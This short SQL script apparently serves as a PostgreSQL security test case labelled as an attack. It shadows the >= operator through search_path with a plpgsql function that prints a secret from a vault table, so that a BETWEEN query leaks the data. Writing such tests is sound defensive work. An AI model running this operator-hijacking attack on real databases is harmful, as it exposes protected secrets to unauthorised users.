-- Hides a comparison that BETWEEN uses.
-- wants: read
-- attack:
CREATE FUNCTION atleast(text, text) RETURNS boolean LANGUAGE plpgsql AS $$BEGIN
  RAISE NOTICE '%', (SELECT secret FROM public.vlt_account WHERE id = 1); RETURN true; END$$;
CREATE OPERATOR public.>= (LEFTARG = text, RIGHTARG = text, FUNCTION = atleast);
SET search_path = public, pg_catalog;
SELECT * FROM mallory_own WHERE v BETWEEN 'a' AND 'z';
